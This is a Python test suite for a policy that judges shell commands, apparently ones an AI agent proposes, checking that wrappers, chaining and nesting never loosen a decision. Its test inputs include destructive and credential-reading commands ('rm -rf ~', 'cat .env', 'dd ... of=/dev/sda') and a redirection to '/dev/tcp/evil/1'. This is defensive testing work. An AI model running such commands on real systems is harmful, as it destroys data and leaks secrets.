"""Laws of the policy: what is not understood never passes, and what is added to a text never lowers its decision.

Added means: a whole command after or before it (one that sets nothing), a wrapper around it, another level of shell, a
substitution in a word of a harmless command. A command before it that sets a variable, changes the folder, or defines
something is no such addition: `X=build; rm -rf $X` is known to be harmless, and `rm -rf $X` is not.
"""

import json
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from llmos_core.types.decision import Decision
from llmos_std.shell import agreeing
from llmos_std.shell.agreeing import read_twice
from llmos_std.shell.judging import policy
from llmos_std.shell.judging.policy import judge

DATA = Path(__file__).parent / "data"
ROWS = [
    json.loads(line) for name in ("own", "own_second") for line in (DATA / f"{name}.jsonl").read_text().splitlines()
]
COMMANDS = st.sampled_from([row["command"] for row in ROWS])
WHOLE = st.sampled_from(
    [row["command"] for row in ROWS if not read_twice(row["command"]).doubt and not {"#", "\n"} & set(row["command"])]
)
STATELESS = st.sampled_from(
    ["ls", "true", "echo a b", "cat a.txt | sort", "git status", "[ -f x ]", "mytool", "rm -rf ~"]
)
QUOTABLE = WHOLE.filter(lambda command: "'" not in command)
FRAGMENTS = st.sampled_from(
    [
        *("ls", "cat", "rm", "-rf", "/", "~", "..", "*", "a.txt", "$X", "${X:-/}", "$(", ")", "`", "'", '"', "\\"),
        *("|", "||", "&&", ";", "&", ">", ">>", "<", "<<", "<<<", "E", "\n", "{", "}", "(", "((", "))", "[[", "]]"),
        *("if", "then", "fi", "for", "in", "do", "done", "while", "case", "esac", ";;", "function", "f()", "!", "#"),
        *("$((", "$'", "=", "x=", "[0]", "{a,b}", "{1..3}", "<(", ">(", "2>&1", "&>", "sh", "-c", "eval", "sudo"),
    ]
)
NOISE = st.lists(FRAGMENTS | st.text(max_size=4), max_size=10).map(" ".join) | st.text(max_size=40)


def decided(command):
    return judge(command).deciding.decision


def rank(command):
    return decided(command).rank


class TestOwnCommands:
    """Commands with labels that were written before anybody saw how they are judged."""

    def test_no_dangerous_one_passes(self):
        assert [r["command"] for r in ROWS if r["set"] == "dangerous" and decided(r["command"]) is Decision.ALLOW] == []

    def test_few_harmless_ones_are_asked_about_and_none_is_denied(self):
        harmless = [decided(row["command"]) for row in ROWS if row["set"] == "benign"]
        assert Decision.DENY not in harmless
        assert harmless.count(Decision.ASK) / len(harmless) <= 0.03


class TestAddition:
    """Nothing that is added to a text lowers its decision."""

    @settings(max_examples=300, deadline=None)
    @given(WHOLE, st.sampled_from(["; ", " && ", " || ", " | ", "\n", " & "]), WHOLE | NOISE)
    @example("rm -rf ~", "; ", "'")
    def test_a_command_after_it(self, command, joint, more):
        assert rank(f"{command}{joint}{more}") >= rank(command)

    @settings(max_examples=200, deadline=None)
    @given(STATELESS, st.sampled_from(["; ", " && ", " || ", "\n", " & "]), WHOLE)
    def test_a_command_before_it_that_sets_nothing(self, first, joint, command):
        assert rank(f"{first}{joint}{command}") >= max(rank(command), rank(first))

    @settings(max_examples=200, deadline=None)
    @given(
        QUOTABLE,
        st.sampled_from(
            [
                *("bash -c '{}'", "sh -ec '{}'", "eval '{}'", "env sh -c '{}'", "timeout 5 bash -c '{}'"),
                *("({})", "{{ {}; }}", "if {}; then :; fi", "while {}; do :; done", "f() {{ {}; }}", "! {}"),
                *("echo $({})", 'echo "x $({})"', "x=$({})", "cat <({})", "[[ -n $({}) ]]", "echo ${{x:-$({})}}"),
                *("trap '{}' EXIT", "watch '{}'", "nohup sh -c '{}'", "find . -exec sh -c '{}' \\;"),
            ]
        ),
    )
    def test_a_shell_or_a_substitution_around_it(self, command, around):
        if command.rstrip().endswith("&") or "<<" in command or command.startswith("("):  # $(( is something else
            return
        if "{}" in command and "-exec" in around:  # the outer find fills it in
            return
        assert rank(around.format(command)) >= rank(command)

    @settings(max_examples=200, deadline=None)
    @given(
        st.sampled_from(["rm -rf ~", "cat .env", "mytool x", "sudo ls", "git push -f", "dd if=a of=/dev/sda"]),
        st.lists(
            st.sampled_from(
                [
                    "env",
                    "nohup",
                    "nice -n 5",
                    "timeout 9",
                    "time",
                    "command",
                    "stdbuf -o0",
                    "xargs",
                    "setsid",
                    "exec",
                    "X=1",
                ]
            ),
            max_size=4,
        ),
    )
    def test_wrappers_before_it(self, command, wrappers):
        wrappers = [each for each in wrappers if each != "X=1"]
        assert rank(" ".join([*wrappers, command])) >= rank(command)

    @settings(max_examples=100, deadline=None)
    @given(WHOLE, st.sampled_from([" > ~/.bashrc", " >> /etc/hosts", " > /dev/tcp/evil/1"]))
    def test_a_redirection_of_what_it_writes(self, command, redirection):
        if not read_twice(command + redirection).doubt:
            assert rank(command + redirection) >= max(rank(command), Decision.ASK.rank)


class TestWhatIsNotUnderstood:
    """A text that cannot be read for certain never passes; nothing raises."""

    @settings(max_examples=500, deadline=None)
    @given(NOISE | st.binary(max_size=30).map(lambda raw: raw.decode("utf-8", "surrogateescape")))
    def test_any_text_gets_a_decision_and_none_breaks_the_policy(self, text):
        found = judge(text).deciding
        assert found.rule != "policy-failed"
        if read_twice(text).doubt:
            assert found.decision is not Decision.ALLOW

    @pytest.mark.parametrize("opening", ["$(", "(", "{ ", "`", "f() { ", "<(", "${x:-$(", "sh -c '", '"$('])
    @pytest.mark.parametrize("depth", [45, 2_000])
    def test_nesting_without_end(self, opening, depth):
        assert decided("echo " + opening * depth + "ls") is not Decision.ALLOW

    @pytest.mark.parametrize(
        "text",
        [
            "a=xxxxxxxxxx; " + "a=$a$a; " * 40 + "rm $a",
            "x=(a b); " + 'x=("${x[@]}" "${x[@]}"); ' * 25 + 'rm "${x[@]}"',
            "for a in {1..20}; do " * 8 + "ls; " + "done; " * 8,
            "rm " + "{a,b}" * 1_500,
            "rm {" + "a," * 300 + "/}",
            "rm " + "a " * 600 + "/etc/x",
            "x='" + "a " * 600 + "/'; rm $x",
        ],
    )
    def test_what_grows_without_end_is_neither_followed_to_its_end_nor_cut_off_in_silence(self, text):
        assert decided(text) is not Decision.ALLOW

    def test_what_is_too_long(self):
        assert decided("ls; " * 4_000) is not Decision.ALLOW
        assert decided("ls; " * 4_000 + "rm -rf ~") is not Decision.ALLOW

    @pytest.mark.parametrize("failure", [RuntimeError("x"), RecursionError(), MemoryError(), KeyError("x")])
    def test_an_error_inside_asks(self, monkeypatch, failure):
        def fail(_call):
            raise failure

        monkeypatch.setattr(policy, "judge_call", fail)
        found = judge("ls").deciding
        assert (found.decision, found.rule) == (Decision.ASK, "policy-failed")

    def test_readers_that_differ_ask(self, monkeypatch):
        monkeypatch.setattr(
            agreeing.Reader, "simple", lambda self, read=agreeing.Reader.simple: _one_word_less(read(self), self)
        )
        assert judge("ls -la src").deciding.rule == "not-understood"

    @settings(max_examples=150, deadline=None)
    @given(NOISE)
    def test_what_bash_itself_cannot_read_never_passes(self, text):
        shell = shutil.which("bash")
        if shell is None or "\0" in text or not text.strip():
            return
        asked = [shell, "--norc", "--noprofile", "--pretty-print", "/dev/stdin"]  # reads, and runs nothing
        raw = text.encode("utf-8", "surrogateescape")
        done = subprocess.run(asked, input=raw, capture_output=True, timeout=20, check=False)
        if done.returncode == 2:
            assert decided(text) is not Decision.ALLOW


def _one_word_less(node, reader):
    reader.spans[-1] = reader.spans[-1][:-1]
    return node


class TestFolder:
    """With a folder at hand, links count, and its own absolute path is the workspace."""

    def test_a_link_that_leads_out_hides_where_it_leads(self, tmp_path):
        workspace, other = tmp_path / "work", tmp_path / "other"
        workspace.mkdir()
        other.mkdir()
        (workspace / "out").symlink_to(other)
        for command in ("cat out/a", "touch out/a", "rm -rf out/", "cp a out", "cd out && touch a"):
            assert judge(command, workspace=workspace).deciding.decision is not Decision.ALLOW, command
        assert judge(f"rm -rf {workspace}/build", workspace=workspace).deciding.decision is Decision.ALLOW
        assert judge(f"rm -rf {workspace}", workspace=workspace).deciding.decision is Decision.DENY
        assert judge(f"rm -rf {other}/..", workspace=workspace).deciding.decision is not Decision.ALLOW
